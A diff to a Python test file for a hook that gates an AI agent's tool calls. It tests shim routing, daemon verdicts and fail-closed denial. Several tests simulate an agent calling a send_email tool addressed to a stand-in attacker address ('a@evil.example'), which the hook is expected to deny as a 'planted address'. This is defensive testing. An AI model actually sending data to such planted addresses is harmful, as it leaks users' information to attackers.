@@ -24,8 +24,10 @@ class FakeDaemon:
         self.reply = reply or {"ok": True}
         self.error = error
         self.requests: list[tuple[str, dict[str, Any]]] = []
+        self.hellos: list[dict[str, Any]] = []
 
-    def __call__(self) -> FakeDaemon:
+    def __call__(self, **hello: Any) -> FakeDaemon:
+        self.hellos.append(hello)
         if self.error is not None:
             raise self.error
         return self
@@ -95,11 +97,39 @@ def test_shell_command_reaching_nothing_does_not_need_the_daemon() -> None:
     assert hook.run(_pre("Bash", command="pytest -q && git status"), fake) == hook.Outcome()
 
 
-def test_mcp_tools_are_left_to_the_shim() -> None:
-    fake = FakeDaemon(error=DOWN)
-    assert hook.run(_pre("mcp__mail__send_email", to="a@evil.example"), fake) == hook.Outcome()
+SHIMMED = {
+    "ok": True,
+    "sessions": [
+        {"key": "proc:7:1", "servers": [{"name": "mail", "upstream": ["mail-server"], "connected": True}]}
+    ],
+}
+
+
+def test_mcp_tools_of_a_shimmed_server_are_left_to_its_shim() -> None:
+    # A call must never be gated twice: the shim in front of "mail" already asked for a verdict.
+    fake = FakeDaemon(SHIMMED)
+    keys = lambda: ["proc:7:1"]  # noqa: E731
+    assert hook.run(_pre("mcp__mail__send_email", to="a@evil.example"), fake, keys) == hook.Outcome()
     post = {"hook_event_name": "PostToolUse", "tool_name": "mcp__mail__read_inbox", "tool_response": "x"}
-    assert hook.run(post, fake) == hook.Outcome()
+    assert hook.run(post, fake, keys) == hook.Outcome()
+    assert [op for op, _ in fake.requests] == ["status", "status"]  # no verdict, no observation
+
+
+def test_mcp_tool_of_a_server_no_shim_fronts_gets_the_daemons_verdict() -> None:
+    fake = FakeDaemon({"ok": True, "sessions": [], "verdict": "deny", "reason": "planted address"})
+    got = hook.run(_pre("mcp__tracker__send_email", to="a@evil.example"), fake, lambda: ["proc:7:1"])
+    assert _decision(got)["permissionDecision"] == "deny"
+    assert [op for op, _ in fake.requests] == ["status", "tools", "verdict"]
+    assert fake.hellos[-1] == {"server": "tracker", "upstream": ["claude-code-hook", "send_email"]}
+    assert fake.requests[-1][1]["arguments"] == {"to": "a@evil.example"}
+
+
+def test_mcp_tool_is_denied_when_the_daemon_is_unreachable() -> None:
+    # Whether a shim fronts it cannot be known without the daemon: fail closed, as for a network tool.
+    got = hook.run(_pre("mcp__tracker__send_email", to="a@evil.example"), FakeDaemon(error=DOWN))
+    assert _decision(got)["permissionDecision"] == "deny"
+    post = {"hook_event_name": "PostToolUse", "tool_name": "mcp__tracker__read", "tool_response": "x"}
+    assert hook.run(post, FakeDaemon(error=DOWN)).exit_code == hook.EXIT_WARN
 
 
 def test_prompt_is_vouched_and_nothing_is_added_to_claudes_context() -> None:
